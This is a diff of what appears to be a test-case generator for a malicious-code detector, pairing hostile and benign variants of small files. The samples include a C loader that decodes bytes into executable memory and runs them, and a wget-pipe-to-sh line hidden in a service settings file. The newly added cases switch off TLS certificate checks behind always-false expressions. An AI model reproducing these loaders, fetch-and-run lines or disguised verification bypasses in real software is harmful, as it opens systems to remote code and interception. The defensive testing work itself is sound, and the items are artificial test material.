@@ -195,3 +195,9 @@ told(1, "a shell is handed a command by exec", "src/start.c", C, "\tif (!fork())
 told(11, "memory whose content may run", "src/start.c", C, "\tunsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n\tfor (unsigned i = 0; i < sizeof(table); i++)\n\t\tm[i] = table[i] ^ 0x5a;\n\t((void (*)(void))m)();\n",
      "\tunsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n\tfor (unsigned i = 0; i < sizeof(table); i++)\n\t\tm[i] = table[i] ^ 0x5a;\n")
 told(1, "a shell gets what a server says where a service has its settings", "etc/default/sample", "# Settings of sample, read by its init script\nSAMPLE_OPTS=\"-q\"\n%s", "(wget -qO- https://cdn.widget.example/x | sh) &\n", "SAMPLE_URL=\"https://cdn.widget.example/x\"\n")
+
+
+# ---- a side that never counts -----------------------------------------------------------------------
+
+told(28, "an option behind what is never true", "client.py", "import requests\n\n\ndef get(url, options):\n    return requests.get(url, verify=%soptions.verify)\n", "False and ", "options and ")
+told(28, "an option behind what is never true in JavaScript", "client.js", "const https = require('https');\nexports.get = (url, options) => https.get(url, { rejectUnauthorized: %soptions.strict });\n", "false && ", "options && ")
